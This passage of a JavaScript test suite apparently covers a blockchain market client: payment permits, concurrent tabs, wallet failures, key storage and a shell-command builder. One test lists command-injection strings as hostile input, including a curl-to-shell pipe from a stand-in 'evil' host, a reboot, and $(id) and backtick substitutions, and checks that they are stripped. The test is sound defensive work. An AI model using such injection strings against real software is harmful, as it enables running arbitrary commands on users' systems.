  const cheaper = await pressed(20, 7, never);
  for (const { permit } of [cheap, cheaper]) if (permit !== null) token.mine(permit);
  assert.deepEqual(token.paid.map(({ value }) => value), [60, 20], "one each, of what was said to be paid and of what was not");
});

test("an opening that was not the one paid stays out until its deadline", async () => {
  await atFirst();
  const token = tokenOf();
  const first = await pressed(20, 0, never);
  assert.equal((await pressed(10, 0, token.mine)).end, "done");
  const dear = await pressed(30, 1, never);
  const last = await pressed(10, 1, never);
  if (dear.permit !== null) token.show(dear.permit);
  for (const { permit } of [first, last]) if (permit !== null) token.mine(permit);
  assert.equal(token.paid.length, 2, "the one that was said to be, and one more at most");
  assert.equal(last.end, "two_could_be_paid");
  await later(3_000, async () => assert.equal((await pressed(40, token.number, token.mine)).end, "done"));
});

test("a permit that was used without this browser's hearing of it is told once, and locks nobody out", async () => {
  await atFirst();
  const token = tokenOf();
  const hidden = await pressed(50, 0, (permit) => !token.mine(permit)); // mined under another hash, as where a wallet speeds it up
  assert.equal(hidden.end, "failed");
  const told = await pressed(50, 1, token.mine);
  assert.deepEqual([told.end, told.permit], ["opened_before", null]);
  assert.equal((await pressed(50, 1, token.mine)).end, "done");
  assert.deepEqual(token.paid.map(({ number }) => number), [0, 1]);
});

/** One draw after another from a seed (mulberry32): a failure can be run again. */
function drawing(seed) {
  let state = seed;
  return (below) => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) % below;
  };
}

test("whatever an operator shows, mines and denies, it has one opening paid for each that it says is", async () => {
  for (let seed = 1; seed <= 60; seed++) {
    const draw = drawing(seed);
    await atFirst();
    const token = tokenOf();
    const out = [];
    let said = 0;
    for (let press = 0; press < 12; press++) {
      const number = token.number + (draw(4) === 0 ? draw(3) : 0); // as it is, or a later one
      const { permit, end } = await pressed(1 + draw(6) * 10, number, (signed) => draw(3) === 0 && token.mine(signed));
      if (end === "done" || end === "opened_before") said++;
      if (permit !== null) out.push(permit);
      for (const each of out) if (draw(4) === 0) (draw(2) === 0 ? token.show : token.mine)(each);
    }
    for (const each of [...out].sort(() => draw(3) - 1)) token.mine(each);
    assert.ok(token.paid.length <= said + 1, `seed ${seed}: ${token.paid.length} paid, ${said} said`);
  }
});

test("tabs that ask at the same moment do not sign without knowing of each other", async () => {
  await atFirst();
  const asked = asking({ nonce: 4, state: FAILED });
  await withKeys();
  const both = await Promise.all([bought(OFFER), bought(OFFER)]);
  assert.deepEqual(both.map(({ code }) => code).sort(), ["asked_elsewhere", "transaction_failed"]);
  assert.equal(handedOver(asked).length, 1);
});

test("what is waited for is of one chain, market and account", async () => {
  await atFirst();
  await paid({ nonce: 4, state: FAILED });
  const own = { chainId: CHAIN, market: MARKET.contracts.ResearchMarket, account: ME };
  assert.equal((await openings.waitingOf(own)).permit, "4");
  for (const other of [{ chainId: 1 }, { market: addressOf(66) }, { account: addressOf(66) }]) {
    assert.equal((await openings.waitingOf({ ...own, ...other })).permit, null);
  }
});

test("a wallet that says no has handed over nothing, and one that fails otherwise may have", async () => {
  await atFirst();
  const own = { chainId: CHAIN, market: MARKET.contracts.ResearchMarket, account: ME };
  const wanted = { permit: "3", until: secondsNow() + 1_000, escrow: 5n };
  const press = async (prepare, send) => {
    const before = await openings.waitingOf(own);
    await assert.rejects(openings.openOnce(own, before, wanted, { kind: "wallet", prepare, send }), { code: /^wallet/ });
    return openings.waitingOf(own);
  };
  const says = (code) => () => Promise.reject(Object.assign(new Error("no"), { code }));
  assert.equal((await press(says("wallet_declined"), null)).permit, null, "nothing was signed at all");
  const unsent = await press(async () => "ready", says("wallet_declined"));
  assert.deepEqual([unsent.permit, unsent.escrows], ["3", []]);
  const maybe = await press(async () => "ready", async () => {
    assert.deepEqual((await openings.waitingOf(own)).escrows, ["5"], "it is kept before the wallet has it");
    return says("wallet_fault")();
  });
  assert.deepEqual([maybe.permit, maybe.escrows], ["3", ["5"]]);
});

test("a command for a shell holds nothing of the operator's but plain origins", () => {
  const id = `0x${"4e".repeat(32)}`;
  const hostile = ["https://a.example/;curl evil|sh", "http://a;reboot", "http://$(id)", "http://a'b", "http://a`b`", "https://u:p@a.example", "x", "javascript:1", "http://a\nb", "http://a.example/", ""];
  const plain = ["http://127.0.0.1:8101", "https://c1.example", "http://[::1]:8101"];
  const command = recourse.defaultCommand(id, [...hostile, ...plain]);
  assert.equal(command, `usufruct default --request ${id} --custodian http://127.0.0.1:8101 --custodian https://c1.example --custodian 'http://[::1]:8101' --node NODE --manifest manifest.json --key-file KEY`);
  assert.match(recourse.defaultCommand(id, hostile), /--custodian CUSTODIAN /);
  for (const lie of ["0x4e", `${id};reboot`, `${id}\n`, null, id.toUpperCase()]) assert.throws(() => recourse.defaultCommand(lie, plain), code("bad_parameter"));
});

// --- keys that are there already

test("keys are never made over others", async () => {
  world.forget();
  await keystore.addKeyFile(Uint8Array.of(1));
  await assert.rejects(keystore.addKeyFile(Uint8Array.of(2)), code("keys_here"));
  assert.deepEqual(await keystore.keyFile(), Uint8Array.of(1));
  await keystore.forgetKeyFile();
  await keystore.addKeyFile(Uint8Array.of(2));
  assert.deepEqual(await keystore.keyFile(), Uint8Array.of(2));
});
